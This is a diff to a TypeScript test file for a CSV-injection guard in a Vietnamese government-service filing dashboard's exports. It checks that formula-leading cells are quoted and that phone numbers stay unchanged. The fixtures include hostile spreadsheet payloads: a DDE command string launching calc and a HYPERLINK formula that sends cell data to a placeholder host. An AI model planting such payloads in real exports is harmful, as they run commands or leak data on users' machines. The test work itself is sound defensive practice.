@@ -9,8 +9,8 @@ describe('neutraliseFormula (OWASP CSV injection)', () => {
   it.each([
     ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', `'=HYPERLINK("http://x.example/?"&A1,"Bấm")`],
     ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
-    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
     ['- ghi chú', "'- ghi chú"],
@@ -21,12 +21,20 @@ describe('neutraliseFormula (OWASP CSV injection)', () => {
     expect(neutraliseFormula(cell)).toBe(expected);
   });
 
-  it.each(['+84 912 345 678', '+84-912-345-678', '+(84) 912 345 678', '-5', '-1.5', 'Nguyễn Văn An', '0912345678', '', "'=already quoted", '1+1'])(
-    'keeps %j as it is (a number, a phone, or no formula)',
-    (cell) => {
-      expect(neutraliseFormula(cell)).toBe(cell);
-    },
-  );
+  it.each([
+    '+84 912 345 678',
+    '+84-912-345-678',
+    '+(84) 912 345 678',
+    '-5',
+    '-1.5',
+    'Nguyễn Văn An',
+    '0912345678',
+    '',
+    "'=already quoted",
+    '1+1',
+  ])('keeps %j as it is (a number, a phone, or no formula)', (cell) => {
+    expect(neutraliseFormula(cell)).toBe(cell);
+  });
 });
 
 const hostile = ['=HYPERLINK("http://x.example","Bấm")', '+84 912 345 678', '@SUM(A1)', '-1+A1'];
@@ -36,7 +44,13 @@ async function xlsxCells(bytes: Uint8Array<ArrayBuffer>): Promise<string[][]> {
   const wb = new Workbook();
   await wb.xlsx.load(bytes.buffer);
   const rows: string[][] = [];
-  wb.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => (typeof v === 'object' && v !== null ? JSON.stringify(v) : String(v)))));
+  wb.worksheets[0]!.eachRow((row) =>
+    rows.push(
+      (row.values as unknown[])
+        .slice(1)
+        .map((v) => (typeof v === 'object' && v !== null ? JSON.stringify(v) : String(v))),
+    ),
+  );
   return rows;
 }
 
@@ -52,11 +66,30 @@ describe('exports carry no formulas', () => {
 
   it('the dashboard table: a hostile citizen name, officer name and note are quoted', async () => {
     const view: FilingView = {
-      counterId: 'a1b2c3d4e5f6a7b8', id: 'f1', root: 'f1', at: '2026-03-02T01:00:00.000Z', officerId: 'o1', officerName: '=1+1',
-      procedureCode: 'KS', procedureName: 'Đăng ký khai sinh', portalHost: 'dichvucong.gov.vn', status: 'submitted',
-      fields: { filled: 1, check: 0, missing: 0 }, msToFill: 1000, msToSubmit: null, dossierCode: null,
+      counterId: 'a1b2c3d4e5f6a7b8',
+      id: 'f1',
+      root: 'f1',
+      at: '2026-03-02T01:00:00.000Z',
+      officerId: 'o1',
+      officerName: '=1+1',
+      procedureCode: 'KS',
+      procedureName: 'Đăng ký khai sinh',
+      portalHost: 'dichvucong.gov.vn',
+      status: 'submitted',
+      fields: { filled: 1, check: 0, missing: 0 },
+      msToFill: 1000,
+      msToSubmit: null,
+      dossierCode: null,
     };
-    const table = filingsTable([view], () => ({ salt: 'x'.repeat(16), people: [{ role: 'subject', personId: 'p', name: '@evil', maskedId: null }], note: '+HYPERLINK("x")' }), () => 'Quầy 1');
+    const table = filingsTable(
+      [view],
+      () => ({
+        salt: 'x'.repeat(16),
+        people: [{ role: 'subject', personId: 'p', name: '@evil', maskedId: null }],
+        note: '+HYPERLINK("x")',
+      }),
+      () => 'Quầy 1',
+    );
     const csv = Papa.parse<string[]>(new TextDecoder().decode(tableCsv(table)).replace(/^\ufeff/, '')).data;
     const row = csv[1]!;
     expect(row).toContain("'=1+1");
